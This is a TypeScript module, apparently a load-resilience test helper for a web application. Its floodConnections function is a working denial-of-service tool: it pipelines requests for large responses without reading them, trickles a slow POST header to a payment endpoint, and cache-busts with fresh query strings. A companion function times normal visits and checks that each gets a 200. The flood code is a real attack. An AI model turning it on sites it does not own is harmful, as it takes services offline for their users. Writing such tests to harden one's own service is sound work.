import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** The largest answers that need no account. */
const largePaths = ['/api/openapi.json', '/api/reception/chair', '/'];
const reconnectMs = 200;

export type Flood = {
  /** How often the site has closed a connection that reads nothing. */
  countClosed(): number;
  stop(): void;
};

/**
 * Attacks a site: `count` connections ask for the largest answers, 100 at once, and read nothing; as many send a request byte by byte;
 * and a few ask for pages with ever new query strings. A connection that the site closes is opened again.
 */
export function floodConnections(base: string, count: number): Flood {
  const { hostname, port } = new URL(base);
  const sockets = new Set<Socket>();
  const stopped = new AbortController();
  let closed = 0;

  function keepOpen(begin: (socket: Socket) => void): void {
    if (stopped.signal.aborted) return;
    const socket = connect(Number(port), hostname);
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      sockets.delete(socket);
      setTimeout(() => keepOpen(begin), reconnectMs);
    });
    begin(socket);
  }

  const sendWithoutReading = (path: string) => (socket: Socket) => {
    socket.pause();
    socket.on('close', () => (closed += 1));
    keepSending(socket, `GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(100));
  };
  const trickle = (socket: Socket) => {
    socket.write('POST /api/payment HTTP/1.1\r\nhost: x\r\nx-slow: ');
    keepSending(socket, 'a');
  };
  async function fetchNewQueries(worker: number): Promise<void> {
    for (let number = 0; !stopped.signal.aborted; number += 1) {
      const path = largePaths[number % largePaths.length];
      await fetch(`${base}${path}?q=${worker}-${number}`, { signal: stopped.signal })
        .then((response) => response.arrayBuffer())
        .catch(() => pause(reconnectMs));
    }
  }

  for (let number = 0; number < count; number += 1) {
    keepOpen(sendWithoutReading(largePaths[number % largePaths.length] ?? '/'));
    keepOpen(trickle);
  }
  for (let worker = 0; worker < 4; worker += 1) void fetchNewQueries(worker);
  return {
    countClosed: () => closed,
    stop() {
      stopped.abort();
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** Sends a text again and again; who does not read notices only so that the connection has been closed. */
function keepSending(socket: Socket, text: string): void {
  const timer = setInterval(() => socket.writable && socket.write(text), 100);
  socket.write(text);
  socket.on('close', () => clearInterval(timer));
}

/** How long each of these requests took, one after the other, in ms; throws unless each is answered with 200. */
export async function visit(base: string, paths: readonly string[], count: number) {
  const durations: number[] = [];
  for (let number = 0; number < count; number += 1) {
    const startedAt = performance.now();
    const response = await fetch(`${base}${paths[number % paths.length]}`);
    await response.arrayBuffer();
    if (response.status !== 200) throw new Error(`A visitor got ${response.status}.`);
    durations.push(performance.now() - startedAt);
  }
  return durations;
}
